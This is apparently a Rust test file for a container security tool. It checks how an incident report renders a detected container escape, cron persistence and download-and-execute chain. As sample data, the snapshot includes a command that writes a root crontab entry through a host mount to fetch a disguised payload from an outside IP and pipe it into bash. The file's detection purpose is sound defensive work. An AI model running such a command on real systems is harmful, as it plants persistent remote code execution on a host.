use super::*;
use crate::finding::{EnforcedBy, Outcome};
use crate::incident::{samples, text};

#[test]
fn the_chain_reads_as_one_story() {
    insta::assert_snapshot!(text::render(&tell(&samples::chain(), None)), @r"
    Incident aaaaaaaaaaaa on node-1
    escape, persistence_cron, download_exec in container web-1 (tomcat:8) and host
    critical, not stopped; from 2026-03-01T12:01:24.123Z to 2026-03-01T12:02:24.123Z

    What came in, from where
      - `sh -c 'echo '\''* * * * * root curl -s http://203.0.113.66/logo3.jpg | bash -s'\'' >> /mnt/etc/crontab'` (pid 801) in container web-1 (tomcat:8), started from outside by containerd-shim
      - bash has to do with 203.0.113.66:80

    What it became
      - container web-1 (tomcat:8): sh
      - host: cron → cron → sh → bash

    What it did
      - 12:01:24.123Z escape in container web-1 (tomcat:8): sh opens /etc/crontab for writing
      - 12:01:24.123Z persistence_cron in container web-1 (tomcat:8): sh opens /etc/crontab for writing
      - 12:02:24.123Z download_exec in host: bash runs what curl has from 203.0.113.66:80

    What was stopped, and when
      - nothing: everything was only observed

    What it had done, as far as is known
      - /etc/crontab was opened for writing by container web-1 (tomcat:8) and not refused
      - processes, connections and files beyond the findings are unknown: no file of all events
      - bytes sent are not recorded

    Why this is one incident
      - persistence_cron with escape: it is sh (pid 801) or descends from it
      - download_exec with persistence_cron: the command of sh (pid 908) on the host is a line of /etc/crontab, which container web-1 opened for writing

    Processes
      systemd[1] /sbin/init  (host)
        containerd-shim[700] containerd-shim -id x  (host)
          sh[801] sh -c 'echo '\''* * * * * root curl -s http://203.0.113.66/logo3.jpg | bash -s'\'' >> /mnt/etc/crontab'  (container web-1 (tomcat:8))  ◀ escape, persistence_cron
        cron[750] /usr/sbin/cron -f  (host)
          cron[907] /usr/sbin/CRON -f  (host)
            sh[908] /bin/sh -c 'curl -s http://203.0.113.66/logo3.jpg | bash -s'  (host)
              bash[910] bash -s  (host)  ◀ download_exec
      curl[909] curl -s http://203.0.113.66/logo3.jpg  (host)

    Timeline
               0 ms  escape  container web-1 (tomcat:8): sh opens /etc/crontab for writing  [observed]
               0 ms  persistence_cron  container web-1 (tomcat:8): sh opens /etc/crontab for writing  [observed]
           60000 ms  download_exec  host: bash runs what curl has from 203.0.113.66:80  [observed]
    ");
}

#[test]
fn what_was_stopped_is_said_with_its_time() {
    let mut write = samples::write("a", FindingKind::Escape, "aaaaaaaaaaaa");
    write.outcome = Outcome::Denied { by: EnforcedBy::Lsm };
    let rows =
        |findings: &[&crate::finding::Finding]| findings.iter().map(|f| crate::output::samples::row(f)).collect();
    let story = tell(&samples::one(rows(&[&write])), None);
    assert_eq!(story.verdict, Verdict::Stopped);
    assert!(story.stopped[0].ends_with("escape: denied by lsm, 0 ms after the first finding"), "{:?}", story.stopped);
    assert!(!story.damage.iter().any(|line| line.contains("/etc/crontab")), "{:?}", story.damage);
    let story = tell(&samples::one(rows(&[&write, &samples::cron("aaaaaaaaaaaa")])), None);
    assert_eq!((story.verdict, story.timeline[1].offset_ms), (Verdict::Partly, 60_000));
}

#[test]
fn what_is_counted_is_told() {
    let counted = Damage { programs_started: 4, connections: 2, ..Damage::default() };
    let story = tell(&samples::chain(), Some(counted));
    assert!(story.damage.iter().any(|line| line == "at least 4 programs were started by its processes"));
    assert!(!story.damage.iter().any(|line| line.contains("no file of all events")));
}
